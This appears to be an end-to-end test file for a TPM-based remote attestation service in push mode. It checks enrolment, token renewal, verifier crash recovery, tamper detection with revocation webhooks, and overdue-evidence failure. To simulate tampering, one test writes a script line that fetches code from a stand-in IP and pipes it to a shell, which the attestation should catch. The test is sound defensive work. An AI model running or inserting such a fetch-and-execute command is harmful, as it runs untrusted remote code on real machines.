/**
 * Push mode end to end on swtpm: our push agent (in-process, real TPM commands) registers with our registrar, is
 * enrolled with `tenant -c add --push-model`, and is attested by our verifier process in `mode = push`. Shown in one
 * run sharing the services: attestations pass; tokens expire and are renewed without a failed round; the verifier
 * is SIGKILLed right after accepting evidence and restarted, and the agent carries on with nothing counted twice;
 * tampering is detected within one interval and a signed revocation reaches the webhook; an agent that stops is
 * failed by the monitor once its evidence is overdue.
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { RunningPushAgent } from '../../src/agent/push/push-agent.ts'
import { createCa } from '../../src/crypto/ca.ts'
import { waitFor } from '../../src/devtools/local-cluster.ts'
import { runTenantCommand } from '../../src/tenant/cli-actions.ts'
import { type PushCluster, startPushCluster } from '../helpers/push-cluster.ts'

const INTERVAL = 1
let work: string
let cluster: PushCluster
let tenantCa: string
let agentA: RunningPushAgent
let agentB: RunningPushAgent
let programA: string

const status = (uuid: string) => cluster.tenant.service.cvstatus(uuid)

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'push-e2e-'))
  tenantCa = join(work, 'tenant-ca')
  await createCa(tenantCa, { commonName: 'push e2e tenant CA' })
  cluster = await startPushCluster({
    work,
    dbUrl: `sqlite:///${join(work, 'verifier.sqlite')}`,
    quoteInterval: INTERVAL,
    verifierEnv: {
      KEYLIME_VERIFIER_SESSION_LIFETIME: '3',
      KEYLIME_VERIFIER_EXTEND_TOKEN_ON_ATTESTATION: 'False',
      // an agent overdue while the verifier restarts recovers with its next good attestation
      KEYLIME_VERIFIER_PUSH_EVIDENCE_TIMEOUT: '4',
    },
    webhookCertPem: () => readFileSync(join(tenantCa, 'RevocationNotifier-cert.crt'), 'utf8'),
  })
  programA = join(work, 'program-a.sh')
  writeFileSync(programA, '#!/bin/sh\necho a\n')
  const programB = join(work, 'program-b.sh')
  writeFileSync(programB, '#!/bin/sh\necho b\n')
  const a = await cluster.startAgent('agent-a', { emulate: [programA] })
  const b = await cluster.startAgent('agent-b', { emulate: [programB] })
  agentA = a.agent
  agentB = b.agent
  for (const [agent, list] of [
    [agentA, a.imaList],
    [agentB, b.imaList],
  ] as const) {
    await waitFor('registration', 60, async () =>
      (await cluster.tenant.registrar.getAgent(agent.uuid)) ? true : undefined,
    )
    await cluster.enroll(agent.uuid, list, tenantCa)
  }
}, 180_000)

afterAll(async () => {
  await cluster?.close()
  rmSync(work, { recursive: true, force: true })
})

describe('push agent attested by our verifier (mode = push)', () => {
  it('passes attestation; the verifier shows the attestations and the tenant shows the push agent', async () => {
    await waitFor('two good attestations of each agent', 60, async () => {
      const [sa, sb] = await Promise.all([status(agentA.uuid), status(agentB.uuid)])
      for (const s of [sa, sb])
        if (s.attestation_status === 'FAIL') throw new Error(`failed: ${s.last_event_id}`)
      return Number(sa.attestation_count) >= 2 && Number(sb.attestation_count) >= 2 ? true : undefined
    })
    const s = await status(agentA.uuid)
    expect(s.attestation_status).toBe('PASS')
    expect(s.ip).toBeNull()
    const list = await cluster.adminGet(
      cluster.verifiers[0]?.port ?? 0,
      `/v3.0/agents/${agentA.uuid}/attestations`,
    )
    expect(list.status).toBe(200)
    const items = list.body.data as { id: string; attributes: Record<string, unknown> }[]
    expect(items.length).toBeGreaterThan(0)
    expect(items.some((i) => i.attributes.evaluation === 'pass')).toBe(true)
    expect(agentA.stats.consecutiveFailures).toBe(0)
    // bulkinfo: the pull-loop state of a push agent is shown as upstream's tenant shows it, or its stored state
    const bulk = await cluster.tenant.verifier.bulkInfo()
    expect(Object.keys(bulk)).toEqual(expect.arrayContaining([agentA.uuid, agentB.uuid]))
  })

  it('enrolls only with a trusted EK certificate, and takes no payload in push mode', async () => {
    const emptyStore = join(work, 'empty-store')
    mkdirSync(emptyStore)
    const untrusting = join(work, 'tenant-untrusting.conf')
    writeFileSync(
      untrusting,
      readFileSync(cluster.tenantConf, 'utf8').replace(
        /^tpm_cert_store = .*$/m,
        `tpm_cert_store = ${emptyStore}`,
      ),
    )
    // the EK check comes before the verifier is asked, so an enrolled agent shows it as well as a new one
    await expect(
      runTenantCommand('add', { config: untrusting, uuid: agentA.uuid, pushModel: true }),
    ).rejects.toMatchObject({ exitCode: 3, message: expect.stringMatching(/EK of agent .* is not trusted/) })
    await expect(
      runTenantCommand('add', {
        config: cluster.tenantConf,
        uuid: agentA.uuid,
        pushModel: true,
        file: untrusting,
      }),
    ).rejects.toMatchObject({ exitCode: 2, message: expect.stringMatching(/take no payload/) })
  })

  it('renews its token when it expires (session_lifetime 3 s, no extension) without a failed round', async () => {
    const sessions = agentA.stats.sessions
    const attestations = agentA.stats.attestations
    await waitFor('two more sessions', 30, () => (agentA.stats.sessions >= sessions + 2 ? true : undefined))
    expect(agentA.stats.attestations).toBeGreaterThan(attestations + 2)
    expect(agentA.stats.consecutiveFailures).toBe(0)
    expect((await status(agentA.uuid)).attestation_status).toBe('PASS')
  })

  it('carries on after the verifier is SIGKILLed mid-attestation and restarted; nothing is counted twice', async () => {
    const verifier = cluster.verifiers[0]
    if (!verifier) throw new Error('no verifier')
    // right after a 202: the verifier is verifying that evidence when it dies
    const before = agentA.stats.attestations
    await waitFor('an accepted evidence', 20, () => (agentA.stats.attestations > before ? true : undefined))
    await verifier.kill('SIGKILL')
    const killedAt = agentA.stats.attestations
    await verifier.restart()
    await waitFor('three attestations after the restart', 60, () =>
      agentA.stats.attestations >= killedAt + 3 ? true : undefined,
    )
    const accepted = agentA.stats.attestations
    const s = await status(agentA.uuid)
    expect(s.attestation_status).toBe('PASS')
    // every pass counted once: never more than the evidence the verifier accepted, at most the killed one missing
    // (plus one still being verified now)
    const counted = Number(s.attestation_count)
    expect(counted).toBeLessThanOrEqual(accepted)
    expect(counted).toBeGreaterThanOrEqual(accepted - 2)
    const list = await cluster.adminGet(verifier.port, `/v3.0/agents/${agentA.uuid}/attestations`)
    const ids = (list.body.data as { id: string }[]).map((i) => Number(i.id))
    expect(new Set(ids).size).toBe(ids.length)
  })

  /** An agent that went overdue while the verifier restarted (a loaded machine) is PASS again at its next evidence. */
  const passing = (uuid: string) =>
    waitFor(`${uuid} to pass`, 30, async () =>
      (await status(uuid)).attestation_status === 'PASS' ? true : undefined,
    )

  it('detects tampering within one interval and delivers a signed revocation to the webhook', async () => {
    await passing(agentA.uuid)
    await passing(agentB.uuid)
    const tamperedAt = Date.now()
    writeFileSync(programA, '#!/bin/sh\ncurl http://203.0.113.9/x | sh\n')
    const failed = await waitFor('the failure', 30, async () => {
      const s = await status(agentA.uuid)
      return s.attestation_status === 'FAIL' ? s : undefined
    })
    const elapsed = Date.now() - tamperedAt
    // one interval until the next evidence, plus the emulator's debounce and the verification itself
    expect(elapsed).toBeLessThan(INTERVAL * 1000 + 4000)
    expect(String(failed.last_event_id)).toMatch(/^ima\./)
    const got = await waitFor('the revocation', 30, () =>
      cluster.webhook.received.find(
        (r) => r.message?.agent_id === agentA.uuid && r.message.type === 'revocation',
      ),
    )
    expect(got.error).toBeUndefined()
    expect(got.message?.type).toBe('revocation')
    // agent B is not affected: it never fails for A's tampering
    await passing(agentB.uuid)
    expect(String((await status(agentB.uuid)).last_event_id ?? '')).not.toMatch(/^ima\./)
  })

  it('fails an agent whose evidence is overdue (the agent stopped) with its own event', async () => {
    await passing(agentB.uuid)
    await agentB.close()
    const stoppedAt = Date.now()
    const overdue = await waitFor('the monitor to fail agent B', 30, async () => {
      const s = await status(agentB.uuid)
      return s.attestation_status !== 'PASS' ? s : undefined
    })
    // push_evidence_timeout is 4 s: not before (the last evidence was at most one interval before the stop)
    expect(Date.now() - stoppedAt).toBeGreaterThanOrEqual(2500)
    expect(['FAIL', 'TIMEOUT']).toContain(overdue.attestation_status)
    expect(overdue.last_event_id).toBe('internal.push.evidence_overdue')
  })
})
